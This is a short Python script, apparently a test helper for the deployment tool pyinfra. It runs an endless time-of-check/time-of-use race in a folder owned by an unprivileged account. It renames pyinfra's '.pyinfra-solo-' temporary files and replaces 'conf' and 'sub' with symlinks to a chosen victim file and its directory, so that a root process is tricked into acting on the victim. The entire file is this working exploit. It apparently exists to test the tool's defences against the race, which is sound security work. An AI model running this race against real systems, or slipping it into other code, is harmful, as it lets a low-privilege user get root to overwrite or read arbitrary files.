"""Lead root to a victim, as an account that owns a folder can: exchange names in it without an end.

Arguments: the folder, and the victim's path. `conf` and each temporary file become links to the victim,
`sub` a link to the victim's folder.
"""

import os
import sys
from contextlib import suppress
from pathlib import Path

folder, victim = sys.argv[1:]
os.chdir(folder)
sys.stdout.write("began\n")
sys.stdout.flush()
while True:
    for name in os.listdir("."):  # noqa: PTH208
        if name.startswith(".pyinfra-solo-"):
            with suppress(OSError):
                os.rename(name, "stolen")  # noqa: PTH104
                os.symlink(victim, name)  # noqa: PTH211
    for name, target in (("conf", victim), ("sub", os.path.dirname(victim))):  # noqa: PTH120
        with suppress(OSError):
            os.rename(name, "away")  # noqa: PTH104
        with suppress(OSError):
            os.symlink(target, name)  # noqa: PTH211
        with suppress(OSError):
            os.unlink(name)  # noqa: PTH108
        with suppress(OSError):
            os.rename("away", name)  # noqa: PTH104
    with suppress(OSError):
        Path("conf").touch()
